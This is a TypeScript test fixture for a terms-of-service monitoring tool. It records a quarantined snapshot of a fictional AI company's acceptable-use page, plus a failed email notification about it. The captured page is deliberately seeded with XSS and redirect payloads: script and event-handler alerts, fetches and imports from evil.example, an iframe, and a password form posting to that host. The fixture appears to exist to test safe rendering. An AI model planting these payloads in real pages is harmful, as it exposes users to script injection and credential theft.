import { join } from "node:path";
import { createDiskSnapshots } from "../../src/adapters/snapshots/disk.ts";
import { createIncident } from "../../src/core/incidents.ts";
import type { Digest } from "../../src/model/digest.ts";
import { digestOf, digestOfFields } from "../../src/model/digest.ts";
import { parseInstant } from "../../src/model/instant.ts";
import { createNotification } from "../../src/model/notification.ts";
import { createSnapshot } from "../../src/model/snapshot.ts";
import type { WebStore } from "../../src/ports/web-store.ts";
import { renderTerms } from "../servers/site.ts";

export const heldTermsId = "halcyon-ai/acceptable-use-policy";
export const heldUrl = "https://halcyon.example/acceptable-use";

const at = parseInstant("2026-03-01T06:00:00Z");

/** The terms, and whatever a page could try on whoever looks at it. */
const captured = renderTerms("Halcyon AI", ["develop models that compete with ours;"])
  .replace("<head>", '<head><meta http-equiv="refresh" content="0;url=https://evil.example/">')
  .replace(
    "</main>",
    `<script>alert(1); fetch("https://evil.example/")</script><img src="https://evil.example/x.png" onerror="alert(2)" alt="Seal">
    <svg onload="alert(3)"></svg><style>@import url(https://evil.example/x.css);</style>
    <iframe src="https://evil.example/"></iframe><a href="https://evil.example/" target="_top">leave</a>
    <form action="https://evil.example/"><input name="password" autofocus onfocus="alert(4)"><button>Go</button></form></main>`,
  );
const bytes = new TextEncoder().encode(captured);

/** Keeps the captured bytes where a workspace has its snapshots. */
export async function keepHeldBytes(workspaceDir: string): Promise<void> {
  const snapshots = await createDiskSnapshots({ dir: join(workspaceDir, "snapshots") });
  await snapshots.put(bytes);
}

/** What is said of an answer that was held back, and of the delivery that failed; as hostile as can be unless given. */
export interface HeldWords {
  readonly detail: string;
  readonly response: string;
}

const hostileWords: HeldWords = {
  detail: "too little of it is left <b>",
  response: "550 <script>alert(5)</script>",
};

/** Records an answer that was held back, and a delivery about it that failed; gives the check. */
export async function holdAnswer(
  store: WebStore,
  { detail, response }: HeldWords = hostileWords,
): Promise<Digest> {
  const snapshot = createSnapshot(
    heldTermsId,
    {
      requestedUrl: heldUrl,
      finalUrl: heldUrl,
      redirects: [],
      status: 200,
      headers: { "content-type": "text/html; charset=utf-8" },
      via: "http",
      remoteAddress: null,
      robots: "allowed",
      requestedAt: at,
      fetchedAt: at,
    },
    digestOf(bytes),
    bytes.byteLength,
  );
  await store.putSnapshot(snapshot);
  const incident = createIncident(heldTermsId, "quarantined", "collapsed", { detail, at });
  const checkId = digestOfFields(heldTermsId, at);
  await store.recordCheck({
    check: {
      id: checkId,
      termsId: heldTermsId,
      startedAt: at,
      finishedAt: at,
      outcome: "quarantined",
      fault: "collapsed",
      detail,
      snapshotIds: [snapshot.id],
      versionId: null,
    },
    versions: [],
    change: null,
    matched: [],
    notifications: [
      createNotification({
        subject: "incident",
        subjectId: incident.id,
        subscriptionId: "operators",
        channel: "email",
        target: "ops@example.org",
        changeIndexes: [],
        createdAt: at,
      }),
    ],
    pending: null,
    variant: null,
    openedIncidents: [incident],
    closedIncidentIds: [],
  });
  await failToDeliver(store, response);
  return checkId;
}

async function failToDeliver(store: WebStore, response: string): Promise<void> {
  const claim = { now: at, limit: 1, leaseMs: 1000, leaseToken: "x", channel: "email" } as const;
  const [claimed] = await store.claimNotifications(claim);
  if (claimed === undefined) throw new Error("nothing is owed");
  const failed = { notificationId: claimed.id, attempt: 1, at, outcome: "failed" } as const;
  await store.recordDelivery(claimed, { ...failed, response, messageDigest: null }, null);
}
